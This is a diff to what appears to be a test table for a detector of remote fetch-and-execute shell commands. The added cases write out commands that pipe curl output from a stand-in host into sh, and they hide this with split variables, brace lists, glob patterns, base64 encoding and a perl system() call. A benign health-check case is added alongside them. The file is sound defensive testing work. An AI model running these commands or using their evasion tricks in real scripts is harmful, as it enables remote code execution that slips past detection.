@@ -37,6 +37,11 @@ indicatorTable(commandRemoteFetchExecute, {
     'words written apart': script(`c''u"rl" http://203.0.113.7/x | s\\h`),
     'blanks as variables': script(`curl\${IFS}http://203.0.113.7/x|sh`),
     'kubectl exec into another pod': script("kubectl exec web-0 -- sh -c 'wget -qO- http://203.0.113.7/x | sh'"),
+    'a program in two variables': script('a=cu;b=rl; $a$b http://203.0.113.7/x | sh'),
+    'a list in braces': script('{curl,http://203.0.113.7/x} | sh'),
+    'a pattern instead of the shell': script('curl http://203.0.113.7/x | /???/b??h'),
+    'inside encoded text': script(`echo ${btoa('curl http://203.0.113.7/x | sh')} | base64 -d | sh`),
+    'inside the code of an interpreter': runs('perl', '-e', 'system("curl http://203.0.113.7/x | sh")'),
     'in a postStart hook': cronJob({
       containers: [
         { name: 'web', lifecycle: { postStart: { exec: { command: ['sh', '-c', 'curl http://203.0.113.7/x|sh'] } } } },
@@ -59,6 +64,7 @@ indicatorTable(commandRemoteFetchExecute, {
       'curl -o /backup/a.tar https://example.com/a.tar; ls -l /backup/a.tar',
     ),
     'a download as a part of a message': script('sh -c "echo version is $(curl -s https://example.com/version)"'),
+    'a health check in a condition': script('until $(curl -so /dev/null https://example.com/ok); do sleep 1; done'),
     'a value of a download in a condition': script(
       'if [ "$(curl -s https://example.com/ok)" = yes ]; then sh /scripts/go.sh; fi',
     ),
